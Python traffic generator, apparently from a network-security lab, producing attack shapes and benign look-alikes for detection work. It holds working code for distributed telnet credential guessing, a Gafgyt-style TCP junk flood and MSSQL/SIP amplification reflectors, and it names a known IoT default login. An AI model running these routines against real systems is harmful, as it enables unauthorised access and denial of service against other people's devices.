#!/usr/bin/env python3
"""Sixth-session attack shapes and look-alikes for lab/lib/gen6.sh (standard
library only; real sockets, no hand-made frames).

- `oneguess`: a botnet whose every bot tries ONE telnet credential at one
  device and never comes back (distributed guessing below any per-client
  threshold). Each bot is one of the addresses given with --bots (aliases
  gen6.sh puts on the attacker's eth0); the socket is bound to it, so the
  connection really comes from that address. The login dialogue is the
  DVR's (lab/lib/services.sh): "login: ", "Password: ", "Login incorrect".
- `reflector`: a UDP service answering as an MSSQL Browser (MC-SQLR, UDP
  1434: a 1-byte CLNT_BCAST_EX/CLNT_UCAST_EX request gets an SVR_RESP with
  the instance list, the amplification CIC-DDoS2019's DrDoS_MSSQL abuses)
  and a SIP endpoint (UDP 5060: any request gets a 200 OK with an Allow and
  Supported list). Runs in a device's namespace for the attack only.
- `sippoll`: the benign side of the same services: a phone asking the home
  server's SIP endpoint for OPTIONS and its MSSQL Browser for instances,
  a few times a second, reading every answer (its own requests' answers
  must never look like reflection).
- `junk`: Gafgyt/Bashlite's JUNK flood: many TCP connections to one port,
  each writing random junk as fast as it can, reconnecting whenever the
  server closes.

Traffic goes only to the lab addresses given on the command line; rates are
bounded by the arguments.
"""
import argparse
import os
import random
import socket
import sys
import threading
import time


def recv_until(s: socket.socket, needles, limit=4096, timeout=5.0) -> bytes:
    s.settimeout(timeout)
    buf = b""
    end = time.time() + timeout
    while time.time() < end and len(buf) < limit:
        try:
            chunk = s.recv(1024)
        except OSError:
            break
        if not chunk:
            break
        # Refuse every telnet option the server offers (IAC DO/WILL x ->
        # IAC WONT/DONT x), as a minimal bot client does.
        out = bytearray()
        i = 0
        while i < len(chunk):
            if chunk[i] == 0xFF and i + 2 < len(chunk):
                cmd, opt = chunk[i + 1], chunk[i + 2]
                if cmd in (0xFD, 0xFB):
                    out += bytes([0xFF, 0xFC if cmd == 0xFD else 0xFE, opt])
                i += 3
            else:
                i += 1
        if out:
            s.sendall(bytes(out))
        buf += chunk
        if any(n in buf for n in needles):
            break
    return buf


def oneguess(a) -> None:
    bots = [b for b in a.bots.split(",") if b]
    creds = []
    with open(a.creds) as fh:
        for line in fh:
            line = line.strip()
            if ":" in line and line not in creds and line != a.skip:
                creds.append(line)
    rng = random.Random(a.seed)
    rng.shuffle(creds)
    # Round after round, each bot tries its own credential again (--rounds
    # 1: the attack, every bot once; more: the look-alike, clients that keep
    # retrying one stale saved password).
    for i, bot in [(i, b) for _ in range(a.rounds) for i, b in enumerate(bots)]:
        user, _, pw = creds[i % len(creds)].partition(":")
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind((bot, 0))
            s.connect((a.target, a.port))
            recv_until(s, [b"login: "])
            s.sendall(user.encode() + b"\r\n")
            recv_until(s, [b"Password: "])
            s.sendall(pw.encode() + b"\r\n")
            got = recv_until(s, [b"incorrect", b"# "], timeout=6.0)
            print(f"{bot} {user}:{pw} -> {got[-40:]!r}", flush=True)
            s.close()
        except OSError as e:
            print(f"{bot} {user}:{pw} error {e}", flush=True)
        time.sleep(a.gap)


MSSQL_INSTANCES = [
    ("SQLEXPRESS", "15.0.2000.5", 49152),
    ("MSSQLSERVER", "15.0.2000.5", 1433),
    ("SCADA", "14.0.1000.169", 49153),
    ("VMSDB", "13.0.5026.0", 49154),
]


def mssql_answer(host: str) -> bytes:
    data = "".join(
        f"ServerName;{host};InstanceName;{n};IsClustered;No;Version;{v};tcp;{p};;"
        for n, v, p in MSSQL_INSTANCES
    ).encode()
    return b"\x05" + len(data).to_bytes(2, "little") + data


def sip_answer(req: bytes, me: str) -> bytes:
    lines = req.split(b"\r\n")
    keep = [l for l in lines if l.split(b":")[0].lower() in (b"via", b"from", b"to", b"call-id", b"cseq")]
    head = [b"SIP/2.0 200 OK"] + keep + [
        b"Contact: <sip:" + me.encode() + b":5060>",
        b"Allow: INVITE, ACK, CANCEL, OPTIONS, BYE, REFER, NOTIFY, MESSAGE, SUBSCRIBE, INFO, UPDATE",
        b"Accept: application/sdp",
        b"Supported: replaces, timer, path",
        b"User-Agent: Asterisk PBX 18.10.0",
        b"Content-Length: 0",
    ]
    return b"\r\n".join(head) + b"\r\n\r\n"


def reflector(a) -> None:
    host = socket.gethostname().upper()[:15]
    socks = []
    for port in (1434, 5060):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((a.bind, port))
        socks.append((port, s))

    def serve(port, s):
        while True:
            data, peer = s.recvfrom(2048)
            if port == 1434 and data[:1] in (b"\x02", b"\x03"):
                s.sendto(mssql_answer(host), peer)
            elif port == 5060 and data[:8] != b"SIP/2.0 " and data:
                s.sendto(sip_answer(data, a.bind), peer)

    threads = [threading.Thread(target=serve, args=p, daemon=True) for p in socks]
    for t in threads:
        t.start()
    time.sleep(a.seconds)


def sippoll(a) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    me = "phone.home.lan"
    end = time.time() + a.seconds
    n = 0
    while time.time() < end:
        n += 1
        call = f"{random.getrandbits(64):016x}@phone"
        req = (
            f"OPTIONS sip:{a.target} SIP/2.0\r\nVia: SIP/2.0/UDP {me};branch=z9hG4bK{n:08x}\r\n"
            f"From: <sip:phone@{a.target}>;tag={n:x}\r\nTo: <sip:{a.target}>\r\nCall-ID: {call}\r\n"
            f"CSeq: {n} OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n"
        ).encode()
        for payload, port in ((req, 5060), (b"\x03", 1434)):
            s.sendto(payload, (a.target, port))
            try:
                s.recvfrom(4096)
            except OSError:
                pass
        time.sleep(a.interval)


def junk(a) -> None:
    end = time.time() + a.seconds
    sent = [0, 0]
    lock = threading.Lock()

    def worker():
        rng = random.Random(os.getpid() ^ threading.get_ident())
        while time.time() < end:
            try:
                s = socket.create_connection((a.target, a.port), timeout=2)
                with lock:
                    sent[1] += 1
                while time.time() < end:
                    n = rng.randint(64, 1024)
                    s.sendall(bytes(rng.getrandbits(8) for _ in range(n)))
                    with lock:
                        sent[0] += n
            except OSError:
                time.sleep(0.01)

    threads = [threading.Thread(target=worker, daemon=True) for _ in range(a.threads)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"junk: {sent[0]} bytes over {sent[1]} connections", flush=True)


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    o = sub.add_parser("oneguess")
    o.add_argument("--target", required=True)
    o.add_argument("--port", type=int, default=23)
    o.add_argument("--bots", required=True)
    o.add_argument("--creds", required=True)
    o.add_argument("--skip", default="root:vizxv", help="a pair never tried (the DVR's real login)")
    o.add_argument("--gap", type=float, default=5.0)
    o.add_argument("--seed", type=int, default=6)
    o.add_argument("--rounds", type=int, default=1)
    r = sub.add_parser("reflector")
    r.add_argument("--bind", required=True)
    r.add_argument("--seconds", type=float, default=60)
    s = sub.add_parser("sippoll")
    s.add_argument("--target", required=True)
    s.add_argument("--seconds", type=float, default=60)
    s.add_argument("--interval", type=float, default=0.25)
    j = sub.add_parser("junk")
    j.add_argument("--target", required=True)
    j.add_argument("--port", type=int, default=80)
    j.add_argument("--threads", type=int, default=32)
    j.add_argument("--seconds", type=float, default=5)
    a = p.parse_args()
    {"oneguess": oneguess, "reflector": reflector, "sippoll": sippoll, "junk": junk}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
